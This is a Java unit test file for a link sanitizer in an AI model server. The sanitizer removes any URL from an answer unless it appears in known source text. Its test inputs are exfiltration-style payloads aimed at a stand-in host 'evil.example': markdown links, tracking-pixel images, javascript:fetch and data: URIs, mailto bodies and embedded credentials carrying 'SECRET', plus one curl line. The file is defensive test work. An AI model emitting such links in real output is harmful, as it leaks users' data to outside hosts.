package org.liaoyuan.server.assistant.proof;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.constraints.StringLength;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.liaoyuan.server.assistant.frame.Language;

class LinksTest {

    private static final List<String> KNOWN = List.of(
            "See https://good.example/page?a=1 for more.",
            "请看（https://good.example/b）。",
            "https://good.example/long/path");

    private static String only(String answer) {
        return Links.only(KNOWN, answer, Language.EN);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "See [here](https://good.example/page?a=1).",
                "https://good.example/b",
                "It is <https://good.example/b>, you said.",
                "Cited [1](#evidence-1) and [2].",
                "`curl https://evil.example/?d=1` is code.",
                "```\nhttps://evil.example/?d=1\n```",
                "A ratio of 3:1, and 12:30 o'clock; a/b // not much",
                "没有链接的一句话。",
            })
    void whatIsKnownOrNoLinkStays(String answer) {
        assertThat(only(answer)).isEqualTo(answer);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "See [here](https://evil.example/?q=SECRET).",
                "See [here]( <https://evil.example/?q=SECRET> \"title\").",
                "![pixel](https://evil.example/p.png?q=SECRET)",
                "https://evil.example/SECRET.",
                "<https://user:SECRET@evil.example/>", // pragma: allowlist secret
                "www.evil.example/SECRET",
                "[x](//evil.example/SECRET)",
                "[x](javascript:fetch('SECRET'))",
                "[x](data:text/html,SECRET)",
                "mailto:a@evil.example?body=SECRET",
                "[1]: https://evil.example/SECRET\n\nsee [1]",
                "[x](https://good.example/page?a=1&q=SECRET)",
                "https://good.example/long/path/SECRET",
                "https://good.example/long/pathSECRET",
                "HTTPS://EVIL.EXAMPLE/SECRET",
                "点这里https://evil.example/SECRET，谢谢",
            })
    void everyOtherAddressGoesWithWhatIsInIt(String answer) {
        assertThat(only(answer)).doesNotContain("SECRET").contains("link removed");
    }

    @Test
    void theHostIsNamedSoThatNothingMakesALinkOfIt() {
        assertThat(Links.only(List.of(), "看[这里](https://evil.example/?q=1)吧", Language.ZH))
                .isEqualTo("看这里（已去掉链接：evil[.]example）吧");
        assertThat(only("Go to https://evil.example/x?y=1, now."))
                .isEqualTo("Go to (link removed: evil[.]example), now.");
    }

    @Test
    void aPrefixOfAKnownAddressIsAnother() {
        assertThat(only("https://good.example/long/pa")).contains("link removed");
    }

    @Property(tries = 500)
    void noTextBreaksIt(@ForAll @StringLength(max = 300) String answer) {
        assertThat(only(answer + " [a](https://evil.example/SECRET) ![](")).isNotNull();
    }
}
